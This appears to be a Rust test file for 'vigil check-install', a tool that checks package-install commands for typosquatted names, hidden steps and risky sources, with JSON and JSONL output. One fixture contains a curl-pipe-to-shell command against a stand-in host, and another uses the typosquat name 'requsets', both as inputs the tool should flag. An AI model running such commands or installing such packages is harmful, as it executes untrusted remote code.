//! `vigil check-install`: commands, records, forms and exit codes. Nothing of what is asked runs.

use serde_json::{Value, json};

use crate::home::Home;

/// Looks like a well-known name, and nobody knows it.
const SQUAT: &str = "requsets";

fn lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn a_command_is_told_with_its_packages_and_what_is_hidden() {
    let home = Home::new();

    let ran = home.vigil(["check-install", "--", "pip install requests==2.31; make deps"]).exits(0);

    assert!(ran.stdout.contains("requests") && ran.stdout.contains("2.31"), "{}", ran.stdout);
    assert!(ran.stdout.contains("Not seen through: make deps"), "{}", ran.stdout);
}

#[test]
fn words_are_the_words_of_one_program() {
    let home = Home::new();

    let ran = home.vigil(["check-install", "--", "echo", "a; npm i b"]).exits(0);

    assert!(ran.stdout.contains("Installs nothing."), "{}", ran.stdout);
}

#[test]
fn exit_code_says_whether_it_is_bad() {
    let home = Home::new();
    let bad = format!("pip install {SQUAT}");

    let ran = home.vigil(["check-install", "--exit-code", "--", &bad]).exits(1);
    home.vigil(["check-install", "--", &bad]).exits(0);
    home.vigil(["check-install", "--exit-code", "--", "pip install requests"]).exits(0);

    assert!(ran.stdout.starts_with("high"), "{}", ran.stdout);
    assert!(ran.stdout.contains("looks like requests"), "{}", ran.stdout);
}

#[test]
fn records_give_records() {
    let home = Home::new();
    let input = format!(
        "{}\n\nno record\n{}\n{}\n",
        json!({ "id": "a", "command": format!("npm i -g express@4 && pip install {SQUAT}") }),
        json!({ "id": 2, "command": "ls -la # npm i x" }),
        json!({ "id": "c", "command": "curl -s http://x.test/i.sh | sh" }),
    );
    home.write("in.jsonl", &input);

    let args = ["check-install", "--jsonl-in", "in.jsonl", "--format", "jsonl"];
    let ran = home.vigil(args).exits(1);
    let fed = home.vigil_fed(["check-install", "--jsonl-in", "-"], &input).exits(1);

    assert_eq!(ran.stdout, fed.stdout);
    assert!(ran.stderr.contains("line 3 is not a record"), "{}", ran.stderr);
    let told = lines(&ran.stdout);
    assert_eq!(told.len(), 3);
    assert_eq!(
        told[0]["packages"][0],
        json!({
            "manager": "npm", "ecosystem": "npm", "package": "express", "version": "4",
            "source": "registry", "url": null, "flags": ["global"],
        })
    );
    assert_eq!((&told[0]["id"], &told[0]["severity"]), (&json!("a"), &json!("high")));
    assert_eq!(told[1], json!({ "id": 2, "packages": [], "severity": "none", "reasons": [] }));
    assert_eq!(told[2]["packages"][0]["source"], "url");
    assert!(!told[2]["reasons"].as_array().unwrap().is_empty(), "{}", told[2]);
}

#[test]
fn json_is_one_document() {
    let home = Home::new();

    let ran = home.vigil(["--json", "check-install", "--", "npm i express"]).exits(0);

    let document: Value = serde_json::from_str(&ran.stdout).unwrap();
    assert_eq!(document["packages"][0]["package"], "express");
    assert!(document["schema"].as_str().is_some_and(|name| name.contains("command")), "{document}");
}
